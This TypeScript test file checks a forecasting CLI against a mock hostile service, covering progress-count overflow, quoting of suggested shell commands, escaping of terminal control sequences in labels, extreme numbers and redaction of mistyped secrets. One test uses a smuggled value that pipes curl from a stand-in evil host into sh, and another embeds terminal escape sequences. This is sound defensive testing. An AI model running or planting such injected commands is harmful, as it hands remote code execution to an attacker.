// A hostile service and careless usage against the built CLI, beyond escaping.test.ts: counts the
// progress bar cannot hold, labels that cost quadratic time or flood a line, numbers at the edge of
// a double, and a secret of the environment typed in the wrong place.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ForecastingClient } from '../../src/index.js';
import { ManualClock } from '../../src/testing/index.js';
import { escapeControls, numberSummary } from '../../src/cli/output.js';
import { drawForecast } from '../../src/cli/draw.js';
import { resumeHint } from '../../src/cli/waiting.js';
import { envFor, run, useMockAndFolder } from './_cli.js';
import { hostileService, type HostileService } from './_hostile.js';

const clock = new ManualClock();
const cli = useMockAndFolder({ clock });
const client = () => new ForecastingClient({ apiKey: cli.mock.apiKey, baseURL: cli.mock.baseURL, logLevel: 'off' });
let hostile: HostileService;
beforeAll(async () => void (hostile = await hostileService(cli.mock)));
afterAll(() => hostile.close());
const viaHostile = () => ({ FORECASTING_API_KEY: cli.mock.apiKey, FORECASTING_BASE_URL: hostile.baseURL });
const isTask = (b: unknown): b is Record<string, unknown> => typeof b === 'object' && b !== null && 'plannedSubforecastCount' in b;

/** Any character that must not reach a terminal raw (line feeds aside). */
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('the progress bar and counts from the service', () => {
  it.each([
    ['more done than planned', 9, 5],
    ['a negative count', -3, 5],
    ['a count past any bar', 1e15, 1],
  ])('--progress tty with %s: the wait ends as a timeout (exit 6) with the result line and the resume hint, no RangeError', async (_name, done, planned) => {
    const task = await client().forecasts.create({ questionId: (await client().questions.create({ type: 'binary', title: 'Counted?' })).id });
    hostile.rewrite = (_p, _m, b) => (isTask(b) ? { ...b, completedSubforecastCount: done, plannedSubforecastCount: planned } : b);
    try {
      const r = await run(['wait', task.id, '--timeout', '1', '--progress', 'tty'], { env: viaHostile() });
      expect(r.stderr).not.toMatch(/RangeError|Invalid (count|string)/);
      expect(r.code).toBe(6);
      expect(r.stdout).toBe(`${task.id}  queued  ${done}/${planned}\n`);
      expect(r.stderr.trimEnd().split('\n').at(-1)).toBe(`1 task(s) still running; resume with: forecasting wait ${task.id}`);
    } finally {
      hostile.rewrite = (_p, _m, b) => b;
    }
  });
});

describe('the command a refusal suggests', () => {
  /** The hint `forecasting forecast` prints for a question whose running forecast the service names `id`. */
  async function hintFor(id: string): Promise<string | undefined> {
    const q = (await client().questions.create({ type: 'binary', title: `Suggested for ${id}?` })).id;
    const first = (await client().forecasts.create({ questionId: q })).id;
    hostile.rewrite = (_p, _m, b) => JSON.parse(JSON.stringify(b).replaceAll(first, id));
    try {
      const r = await run(['forecast', q], { env: viaHostile() });
      expect(r.code).toBe(3);
      return r.stderr.trimEnd().split('\n')[1];
    } finally {
      hostile.rewrite = (_p, _m, b) => b;
    }
  }

  it('quotes the running task id the service names as one shell word: copied, it runs `forecasting wait` and nothing else', async () => {
    const evil = "x'; curl -s http://evil.example/p | sh #";
    expect(await hintFor(evil)).toBe(`The forecast running: ${evil}. Wait for it: forecasting wait 'x'\\''; curl -s http://evil.example/p | sh #'`);
  });

  it('puts the ids after `--` when one reads as an option (options before it), and `forecasting wait --` takes them as ids', async () => {
    expect(await hintFor('--cancel-on-interrupt')).toBe('The forecast running: --cancel-on-interrupt. Wait for it: forecasting wait -- --cancel-on-interrupt');
    expect(resumeHint(['-h', 't_1'], { waitForReport: true })).toBe('2 task(s) still running; resume with: forecasting wait --wait-for-report -- -h t_1');
    expect(resumeHint(['t_1'], { waitForReport: true })).toBe('1 task(s) still running; resume with: forecasting wait t_1 --wait-for-report');
    // Run as suggested, `-h` is a task id to look up, not the help.
    const waited = await run(['wait', '--', '-h'], { env: viaHostile() });
    expect([waited.code, waited.stderr]).toEqual([3, expect.stringMatching(/^NotFoundError: 404 /)]);
  });
});

describe('forecasts show with a hostile forecast', () => {
  /** A completed task of `type` whose forecastData the service then answers as `data` (JSON text, so it may hold 1e400). */
  async function shown(type: 'binary' | 'numeric', dataText: string, columns = 60) {
    const question = type === 'binary' ? ({ type, title: 'Drawn?' } as const) : ({ type, title: 'Drawn?', lowerBound: 0, upperBound: 10, scaleType: 'linear' } as const);
    const task = await client().forecasts.create({ question, runMode: 'light' });
    clock.advance(24 * 3600_000);
    hostile.rewrite = (_p, _m, b) => (isTask(b) && b['forecast'] ? JSON.stringify(b).replace(/"forecastData":\{.*?\},"report"/, `"forecastData":${dataText},"report"`) : b);
    try {
      const started = performance.now();
      const r = await run(['forecasts', 'show', task.id], { env: { ...viaHostile(), COLUMNS: String(columns) } });
      return { ...r, ms: performance.now() - started, id: task.id };
    } finally {
      hostile.rewrite = (_p, _m, b) => b;
    }
  }

  it('an option label of 40,000 combining marks, OSC 8 and C1: drawn in linear time, each line within the width (marks counted), nothing raw', async () => {
    const label = `a${'\u0301'.repeat(40_000)}\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b2J\u202eB`;
    const data = JSON.stringify({ questionType: 'multiple_choice', format: 'option_probabilities', payload: { probabilities: { [label]: 0.7, Other: 0.3 } } });
    const r = await shown('binary', data);
    expect(r.code).toBe(0);
    expect(r.ms).toBeLessThan(10_000);
    const [line, ...bars] = r.stdout.trimEnd().split('\n');
    expect(line).toMatch(/^\S+ {2}completed {2}\S+ {2}likeliest="a/);
    expect(bars).toHaveLength(2);
    for (const bar of bars) {
      expect(bar).not.toMatch(RAW);
      // A column may carry a letter and its accents: 4 code points a column at most.
      expect(Array.from(bar).length).toBeLessThanOrEqual(60 * 4);
    }
    expect(bars[1]).toMatch(/^ {2}Other {2,}#+ +30\.0%$/);
    // The result line is not drawn (no cut), but escaped all the same.
    expect(line).not.toMatch(RAW);
  });

  it('edges and percentiles at ±1e308 and past a double (1e400): a picture and a summary with the numbers as sent, no NaN or undefined', async () => {
    const data = `{"questionType":"numeric","format":"probability_mass_function","payload":{"percentiles":{"p10":-1e308,"p50":1e20,"p90":1e308},"probability_mass_function":[0.5,0.5],"bucket_edges":[-1e308,0,1e308],"above_upper_probability":1e400,"scaleType":"linear"}}`;
    const r = await shown('numeric', data);
    expect(r.code).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/ {2}median=100000000000000000000 \(p10 -1e\+308, p90 1e\+308\)$/);
    expect(r.stdout).not.toMatch(/NaN|undefined|Infinity/);
    expect(lines.find((l) => l.includes('p50'))).toBeDefined();
    for (const l of lines.slice(1)) expect(l.length).toBeLessThanOrEqual(60);
  });
});

describe('numbers and labels at the edges, in process', () => {
  it('summarises a median past 2^53 / 1000 as its number, not rounded into other digits or Infinity', () => {
    const summary = (p50: number) => numberSummary({ questionType: 'numeric', payload: { percentiles: { p10: 0.12345, p50, p90: 123_456_789.98765 } } });
    expect(summary(1e20)).toBe('median=100000000000000000000 (p10 0.123, p90 123456789.988)');
    expect(summary(-1e307)).toBe('median=-1e+307 (p10 0.123, p90 123456789.988)');
    expect(summary(1.5e306)).toBe('median=1.5e+306 (p10 0.123, p90 123456789.988)');
  });

  it('cuts a label of combining marks in linear time: 200 options of 20,000 marks each draw in well under a second', () => {
    const probabilities = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`${i}${'\u0301'.repeat(20_000)}tail`, 1 / 200]));
    const started = performance.now();
    const lines = drawForecast({ questionType: 'multiple_choice', payload: { probabilities } }, { width: 80, unicode: true });
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(lines).toHaveLength(200);
    for (const line of lines) expect(Array.from(line).length).toBeLessThanOrEqual(80 * 4);
  });

  it('escapes the Hangul fillers and the Mongolian vowel separator, which show as nothing', () => {
    expect(escapeControls('A\u3164B\uffa0C\u1160D\u115fE\u180eF')).toBe('A\\u3164B\\uffa0C\\u1160D\\u115fE\\u180eF');
  });
});

describe('a secret of the environment typed where a value goes', () => {
  const key = 'pre_live_typed_in_the_wrong_place_0123';
  const secret = 'whsec_typed_in_the_wrong_place_0123';
  const env = { FORECASTING_API_KEY: key, FORECASTING_BASE_URL: 'http://127.0.0.1:9/api/v1/external', FORECASTING_WEBHOOK_SECRET: secret };

  it.each([
    ['a value the CLI checks', ['questions', 'list', '--limit', key]],
    ["a choice commander checks", ['wait', 'x', '--progress', key]],
    ['an unknown option', ['questions', 'list', `--${key}`]],
    ['the webhook secret as a file name', ['forecast', '--from-file', secret]],
  ])('%s: the usage error (exit 2) blanks it', async (_name, args) => {
    const r = await run(args, { env });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^UsageError: .*\[redacted\]/);
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(`${r.stdout}${r.stderr}`).not.toContain('typed_in_the_wrong_place');
  });
});

describe('a bad --timeout of forecast --wait', () => {
  it('is a usage error (exit 2) before any forecast starts: found after the start, it left a task running, charged and unnamed', async () => {
    const q = await client().questions.create({ type: 'binary', title: 'Typo in the timeout?' });
    const file = join(cli.dir, 'timeout.jsonl');
    writeFileSync(file, `${JSON.stringify({ questionId: q.id })}\n`);
    for (const args of [[q.id], ['--from-file', file]]) {
      cli.mock.service.requests.clear();
      const r = await run(['forecast', ...args, '--wait', '--timeout', 'soon'], { env: envFor(cli.mock) });
      expect([r.code, r.stderr]).toEqual([2, 'UsageError: --timeout must be a number of seconds, got "soon"\n']);
      expect(cli.mock.service.requests.list().filter((req) => req.method === 'POST')).toEqual([]);
    }
  });
});
